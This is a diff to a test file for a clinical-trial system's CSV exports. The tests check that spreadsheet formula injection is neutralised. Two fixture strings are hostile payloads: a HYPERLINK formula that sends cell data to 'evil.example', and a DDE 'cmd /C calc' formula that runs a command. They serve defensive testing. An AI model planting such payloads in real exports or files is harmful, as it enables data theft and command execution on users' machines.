@@ -2,9 +2,7 @@
 // trail, the auditor bundle) neutralises formula starts, and keeps machine values exact.
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { ephemeralSigningKey } from '../../src/lib/server/audit/signing-key';
-import { startDosingSession } from '../../src/lib/server/services/capture/dosing-sessions';
 import { recordAdverseEvent } from '../../src/lib/server/services/capture/adverse-events';
-import { listVisits } from '../../src/lib/server/services/capture/visits';
 import {
 	markVitalsEnteredInError,
 	recordVitals
@@ -13,7 +11,7 @@ import { exportDomainCsv } from '../../src/lib/server/services/audit/exports';
 import { auditTrailCsv } from '../../src/lib/server/services/audit/audit-export';
 import { createAuditorBundle } from '../../src/lib/server/services/audit/bundle';
 import { parseCsv } from '../helpers/csv';
-import { actorFor, enrolledParticipant, freshDb, type TestDb } from '../helpers/db';
+import { actorFor, freshDb, type TestDb, runningSession } from '../helpers/db';
 import { noCriteria } from '../helpers/fixtures';
 import { mkdtempSync } from 'node:fs';
 import { tmpdir } from 'node:os';
@@ -33,15 +31,7 @@ const TERM = '=HYPERLINK("http://evil.example/?d="&A1,"click")';
 const REASON = '@SUM(1+1)*cmd|" /C calc"!A0 wrong participant';
 
 async function recordsWithFormulas() {
-	const c = await actorFor(t, 'coordinator', ['A1'], now);
-	const p = await enrolledParticipant(t, 'A1', '2026-10-01');
-	const dosing = (await listVisits(c, p.id)).find((v) => v.kind === 'dosing')!;
-	const s = await startDosingSession(c, p.id, {
-		visitId: dosing.id,
-		t0: '2026-11-20T10:00',
-		initialDoseMg: 120,
-		deviationReason: 'test set-up'
-	});
+	const { coordinator: c, participant: p, session: s } = await runningSession(t, { now });
 	await recordVitals(c, s.id, {
 		timepoint: -30,
 		takenAt: '2026-11-20T09:30',
